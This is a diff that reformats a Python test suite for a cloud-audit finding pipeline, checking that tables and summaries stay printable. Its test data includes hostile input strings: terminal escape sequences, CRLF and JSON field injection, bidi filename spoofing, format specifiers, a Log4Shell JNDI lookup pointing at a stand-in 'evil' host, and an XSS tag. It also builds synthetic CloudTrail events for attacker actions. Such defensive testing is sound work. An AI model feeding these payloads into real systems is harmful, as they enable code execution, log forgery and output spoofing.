@@ -19,26 +19,65 @@ from pipeline.output import TableWriter, format_summary, safe, time_text
 from pipeline.ruletest import complete_record
 
 ATTACKS = [
-    "\x1b[31mcritical\x1b[0m", "\x1b]0;pwned\x07", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2K", "\x9b31m",  # ANSI, CSI (C1)
-    "line1\nSubject: forged", "a\r\nseverity: critical", "x\rOVERWRITE", "\x85next", "\u2028ls\u2029ps",
-    "\u202eelif.exe", "\u2066isolate\u2069", "zero\u200bwidth\u200d", "\ufeffbom", "nul\x00byte", "\x07\x08\x7f",
-    '"},"severity":{"DataType":"String","StringValue":"info"}', '","rule_id":"forged', "\\n\\r\\u001b",
-    "\U0001f4a3" * 3, "é" * 50, "\t\v\f", "%s%n%x", "${jndi:ldap://evil/a}", "<script>alert(1)</script>",
+    "\x1b[31mcritical\x1b[0m",
+    "\x1b]0;pwned\x07",
+    "\x1b[2J\x1b[H",
+    "\x1b[1A\x1b[2K",
+    "\x9b31m",  # ANSI, CSI (C1)
+    "line1\nSubject: forged",
+    "a\r\nseverity: critical",
+    "x\rOVERWRITE",
+    "\x85next",
+    "\u2028ls\u2029ps",
+    "\u202eelif.exe",
+    "\u2066isolate\u2069",
+    "zero\u200bwidth\u200d",
+    "\ufeffbom",
+    "nul\x00byte",
+    "\x07\x08\x7f",
+    '"},"severity":{"DataType":"String","StringValue":"info"}',
+    '","rule_id":"forged',
+    "\\n\\r\\u001b",
+    "\U0001f4a3" * 3,
+    "é" * 50,
+    "\t\v\f",
+    "%s%n%x",
+    "${jndi:ldap://evil/a}",
+    "<script>alert(1)</script>",
 ]
 LONG = [("A\x1b[31m\n\u202e" * 2500)[:10_000], "x" * 10_000, ("\U0001f4a3é\u2028" * 4000)[:10_000]]
 TEXTS = ATTACKS + LONG
 ALLOWED_ATTRIBUTES = {"severity", "rule_id", "account", "status"}
 
 
-def finding(text: str = "", *, title: str = "Security group opened to the internet", severity: str = "high",
-            rule_id: str = "security-group-open", event_time: float = 1_722_431_184.0) -> Finding:
+def finding(
+    text: str = "",
+    *,
+    title: str = "Security group opened to the internet",
+    severity: str = "high",
+    rule_id: str = "security-group-open",
+    event_time: float = 1_722_431_184.0,
+) -> Finding:
     """A finding with `text` in every field CloudTrail data can reach."""
     return Finding(
-        id=finding_id(rule_id, text, 0), rule_id=rule_id, title=title, severity=severity, attack=("T1562.007",),
-        account=text, region=text, principal=f"arn:aws:iam::111122223333:user/{text}", source_ip=text,
-        user_agent=text, resources=(f"sg-0123 tag:Owner={text}", text), event_ids=(text,), event_time=event_time,
-        dedup_key=text, window=0, summary=f"group {text} opened to 0.0.0.0/0 by {text}",
-        context={"tags": {text: text}, "user_agent": text, text[:50]: [text]})
+        id=finding_id(rule_id, text, 0),
+        rule_id=rule_id,
+        title=title,
+        severity=severity,
+        attack=("T1562.007",),
+        account=text,
+        region=text,
+        principal=f"arn:aws:iam::111122223333:user/{text}",
+        source_ip=text,
+        user_agent=text,
+        resources=(f"sg-0123 tag:Owner={text}", text),
+        event_ids=(text,),
+        event_time=event_time,
+        dedup_key=text,
+        window=0,
+        summary=f"group {text} opened to 0.0.0.0/0 by {text}",
+        context={"tags": {text: text}, "user_agent": text, text[:50]: [text]},
+    )
 
 
 def _printable_ascii(value: str) -> bool:
@@ -159,9 +198,15 @@ def test_table_survives_an_event_time_no_datetime_can_show() -> None:
 
 def test_summary_lines_are_printable_whatever_the_keys_and_values() -> None:
     rng = random.Random(7)
-    summary = {"events": 3, "last_event_time": 253402300800.0,
-               "findings_by_rule": {text: rng.randint(1, 9) for text in TEXTS},
-               "rule_errors": {"r": 1}, "notes": TEXTS, TEXTS[0]: TEXTS[1], "nested": {TEXTS[2]: {TEXTS[3]: TEXTS[4]}}}
+    summary = {
+        "events": 3,
+        "last_event_time": 253402300800.0,
+        "findings_by_rule": {text: rng.randint(1, 9) for text in TEXTS},
+        "rule_errors": {"r": 1},
+        "notes": TEXTS,
+        TEXTS[0]: TEXTS[1],
+        "nested": {TEXTS[2]: {TEXTS[3]: TEXTS[4]}},
+    }
     text = format_summary(summary)
     for line in text.split("\n"):
         assert line.isprintable(), repr(line[:120])
@@ -177,23 +222,58 @@ def test_safe_escapes_every_unprintable_character() -> None:
 
 
 def _hostile_events(text: str) -> list[Event]:
-    tags = {"items": [{"resourceType": "instance", "tags": [{"key": "Owner", "value": text}, {"key": text,
-                                                                                              "value": text}]}]}
+    tags = {
+        "items": [{"resourceType": "instance", "tags": [{"key": "Owner", "value": text}, {"key": text, "value": text}]}]
+    }
     partials = [
-        {"eventSource": "ec2.amazonaws.com", "eventName": "AuthorizeSecurityGroupIngress", "userAgent": text,
-         "requestParameters": {"groupId": f"sg-{text}", "ipPermissions": {"items": [
-             {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0",
-                                                                                          "description": text}]}}]}}},
-        {"eventSource": "ec2.amazonaws.com", "eventName": "RunInstances", "userAgent": text,
-         "requestParameters": {"tagSpecificationSet": tags, "instanceType": text},
-         "responseElements": {"instancesSet": {"items": [{"instanceId": f"i-{text}"}]}}},
-        {"eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin", "userAgent": text, "sourceIPAddress":
-            text, "responseElements": {"ConsoleLogin": "Failure"}, "additionalEventData": {"MFAUsed": "No"}},
-        {"eventSource": "s3.amazonaws.com", "eventName": "PutBucketPolicy", "userAgent": text,
-         "requestParameters": {"bucketName": text, "bucketPolicy": {"Statement": [{"Principal": "*",
-                                                                                   "Effect": "Allow"}]}}},
-        {"eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging", "userAgent": text,
-         "requestParameters": {"name": text}},
+        {
+            "eventSource": "ec2.amazonaws.com",
+            "eventName": "AuthorizeSecurityGroupIngress",
+            "userAgent": text,
+            "requestParameters": {
+                "groupId": f"sg-{text}",
+                "ipPermissions": {
+                    "items": [
+                        {
+                            "ipProtocol": "tcp",
+                            "fromPort": 22,
+                            "toPort": 22,
+                            "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0", "description": text}]},
+                        }
+                    ]
+                },
+            },
+        },
+        {
+            "eventSource": "ec2.amazonaws.com",
+            "eventName": "RunInstances",
+            "userAgent": text,
+            "requestParameters": {"tagSpecificationSet": tags, "instanceType": text},
+            "responseElements": {"instancesSet": {"items": [{"instanceId": f"i-{text}"}]}},
+        },
+        {
+            "eventSource": "signin.amazonaws.com",
+            "eventName": "ConsoleLogin",
+            "userAgent": text,
+            "sourceIPAddress": text,
+            "responseElements": {"ConsoleLogin": "Failure"},
+            "additionalEventData": {"MFAUsed": "No"},
+        },
+        {
+            "eventSource": "s3.amazonaws.com",
+            "eventName": "PutBucketPolicy",
+            "userAgent": text,
+            "requestParameters": {
+                "bucketName": text,
+                "bucketPolicy": {"Statement": [{"Principal": "*", "Effect": "Allow"}]},
+            },
+        },
+        {
+            "eventSource": "cloudtrail.amazonaws.com",
+            "eventName": "StopLogging",
+            "userAgent": text,
+            "requestParameters": {"name": text},
+        },
     ]
     events = []
     for i, partial in enumerate(partials):
